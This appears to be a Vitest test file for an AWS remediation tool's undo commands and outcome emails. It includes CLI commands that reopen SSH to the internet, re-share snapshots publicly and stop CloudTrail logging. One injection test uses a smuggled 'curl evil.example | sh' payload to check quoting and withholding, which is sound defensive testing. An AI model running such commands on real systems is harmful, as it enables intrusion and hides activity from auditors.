import { describe, expect, it } from 'vitest';
import { renderOutcomeEmail } from '../../lambdas/alerter/render';
import type { ActionId, RemediationStep } from '../../lambdas/engine/types';
import { OUTCOME_SCHEMA_VERSION, type RemediationOutcome } from '../../lambdas/findings/outcome';
import { undoCommand } from '../../lambdas/findings/undo-commands';

const REF = { findingId: 'f-1a2b', stepKey: 'step-002', auditTable: 'TrailGuard-AuditTable-1X' };
const QUARANTINE = 'arn:aws:iam::123456789012:policy/TrailGuard-us-east-1-Quarantine';

const step = (action: ActionId, params: Record<string, string>): RemediationStep => ({
  action,
  params,
  description: action,
});

/** Every action with a recorded before-state, and the command that reverses it. */
const CASES: [RemediationStep, Record<string, unknown>, string | undefined][] = [
  [
    step('iam.disable-access-key', { userName: 'alice', accessKeyId: 'AKIAIOSFODNN7EXAMPLE' }),
    { status: 'Active' },
    'aws iam update-access-key --user-name alice --access-key-id AKIAIOSFODNN7EXAMPLE --status Active',
  ],
  [
    step('iam.quarantine-principal', { principalType: 'role', principalName: 'Deploy' }),
    { attached: false, policyArn: QUARANTINE },
    `aws iam detach-role-policy --role-name Deploy --policy-arn ${QUARANTINE}`,
  ],
  [
    step('cloudtrail.start-logging', { trail: 'org-trail', region: 'eu-west-1' }),
    { isLogging: false },
    'aws cloudtrail stop-logging --name org-trail --region eu-west-1',
  ],
  [
    step('iam.revoke-role-sessions', { roleName: 'Deploy' }),
    { policy: null },
    'aws iam delete-role-policy --role-name Deploy --policy-name TrailGuardRevokeOlderSessions',
  ],
  [
    step('iam.revoke-role-sessions', { roleName: 'Deploy' }),
    { policy: '{"Version":"2012-10-17"}' },
    'trailguard undo f-1a2b/step-002 --table TrailGuard-AuditTable-1X',
  ],
  [step('iam.delete-login-profile', { userName: 'bob' }), { exists: true }, undefined],
  [
    step('iam.detach-admin-policy', {
      principalType: 'group',
      principalName: 'ops',
      policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    }),
    { attached: true },
    'aws iam attach-group-policy --group-name ops --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
  ],
  [
    step('iam.restore-role-trust-policy', { roleName: 'Deploy' }),
    { policy: '{}' },
    'trailguard undo f-1a2b/step-002 --table TrailGuard-AuditTable-1X',
  ],
  [
    step('ec2.revoke-security-group-ingress', {
      groupId: 'sg-0a3f5c2e9b81d7f46',
      ruleId: 'sgr-04d6e1f7a2b3c9d80',
      region: 'eu-west-1',
    }),
    { exists: true, rule: { ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIpv4: '0.0.0.0/0' } },
    'aws ec2 authorize-security-group-ingress --group-id sg-0a3f5c2e9b81d7f46 --protocol tcp --port 22 --cidr 0.0.0.0/0 --region eu-west-1',
  ],
  [
    step('ec2.revoke-security-group-ingress', {
      groupId: 'sg-0a3f5c2e9b81d7f46',
      ruleId: 'sgr-04d6e1f7a2b3c9d80',
      region: 'eu-west-1',
    }),
    { exists: true, rule: { ipProtocol: '-1', cidrIpv6: '::/0' } },
    'trailguard undo f-1a2b/step-002 --table TrailGuard-AuditTable-1X',
  ],
  [
    step('s3.put-public-access-block', { bucket: 'customer-exports', region: 'eu-west-1' }),
    { configuration: null },
    'aws s3api delete-public-access-block --bucket customer-exports --region eu-west-1',
  ],
  [
    step('s3.put-public-access-block', { bucket: 'customer-exports', region: 'eu-west-1' }),
    {
      configuration: {
        BlockPublicAcls: true,
        IgnorePublicAcls: true,
        BlockPublicPolicy: false,
        RestrictPublicBuckets: false,
      },
    },
    'aws s3api put-public-access-block --bucket customer-exports --public-access-block-configuration ' +
      'BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=false,RestrictPublicBuckets=false --region eu-west-1',
  ],
  [
    step('ec2.unshare-snapshot', {
      snapshotId: 'snap-0123456789abcdef0',
      region: 'eu-west-1',
      sharedWith: 'all,999988887777',
    }),
    { removed: ['all', '999988887777'] },
    'aws ec2 modify-snapshot-attribute --snapshot-id snap-0123456789abcdef0 --attribute createVolumePermission ' +
      '--operation-type add --group-names all --user-ids 999988887777 --region eu-west-1',
  ],
  [
    step('ec2.unshare-image', { imageId: 'ami-0123456789abcdef0', region: 'eu-west-1', sharedWith: 'all' }),
    { removed: ['all'] },
    'aws ec2 modify-image-attribute --image-id ami-0123456789abcdef0 --attribute launchPermission --operation-type add ' +
      '--user-groups all --region eu-west-1',
  ],
  [
    step('rds.unshare-snapshot', {
      snapshotIdentifier: 'nightly',
      snapshotType: 'cluster',
      region: 'eu-west-1',
      sharedWith: 'all',
    }),
    { removed: ['all', '999988887777'] },
    'aws rds modify-db-cluster-snapshot-attribute --db-cluster-snapshot-identifier nightly --attribute-name restore ' +
      '--values-to-add all 999988887777 --region eu-west-1',
  ],
];

function outcome(steps: { step: RemediationStep; undo: string | undefined }[]): RemediationOutcome {
  return {
    schemaVersion: OUTCOME_SCHEMA_VERSION,
    id: 'f-1a2b:outcome',
    findingId: 'f-1a2b',
    ruleId: 'iam.admin-policy-attached',
    title: 'Administrator access granted',
    severity: 'critical',
    summary: 's',
    principal: { type: 'IAMUser' },
    eventTime: '2026-11-22T10:00:00Z',
    mode: 'enforce',
    steps: steps.map(({ step: s, undo }, index) => ({
      index,
      action: s.action,
      description: s.description,
      status: 'succeeded',
      undoCommand: undo,
    })),
    decidedAt: '2026-11-22T10:00:05Z',
  };
}

describe('undoCommand', () => {
  it.each(CASES)('reverses %j given its before-state', (s, before, expected) => {
    expect(undoCommand(s, QUARANTINE, { before, ref: REF })).toBe(expected);
  });

  it('prints every command in the outcome email instead of withholding it', () => {
    // Prepare
    const steps = CASES.map(([s, before]) => ({
      step: s,
      undo: undoCommand(s, QUARANTINE, { before, ref: REF }),
    }));
    // Act
    const { text } = renderOutcomeEmail(outcome(steps), { now: new Date('2026-11-22T10:01:00Z') });
    // Assess
    expect(text).not.toContain('withheld');
    for (const { undo } of steps) if (undo !== undefined) expect(text).toContain(undo);
  });

  it('quotes hostile values, and the email withholds the command rather than print it', () => {
    // Prepare
    const hostile = step('iam.detach-admin-policy', {
      principalType: 'user',
      principalName: "x'; curl evil.example | sh; '",
      policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
    });
    const command = undoCommand(hostile, QUARANTINE, { before: { attached: true } });
    // Act
    const { text } = renderOutcomeEmail(outcome([{ step: hostile, undo: command }]), { now: new Date() });
    // Assess
    expect(command).toContain(`'x'\\''; curl evil.example | sh; '\\'''`);
    expect(text).toContain('undo command withheld');
    expect(text).not.toContain('curl evil.example');
  });

  it('says the circuit is open in the subject and on the step', () => {
    // Prepare
    const base = outcome([{ step: step('iam.disable-access-key', {}), undo: undefined }]);
    const open = {
      ...base,
      steps: [{ ...base.steps[0], status: 'skipped-circuit-open', reason: 'circuit open: 10 actions …' }],
    } as RemediationOutcome;
    // Act
    const { subject, text } = renderOutcomeEmail(open, { now: new Date() });
    // Assess
    expect(subject).toContain('[TrailGuard CIRCUIT OPEN]');
    expect(text).toContain('NOT DONE (circuit open: hourly action limit reached)');
  });
});
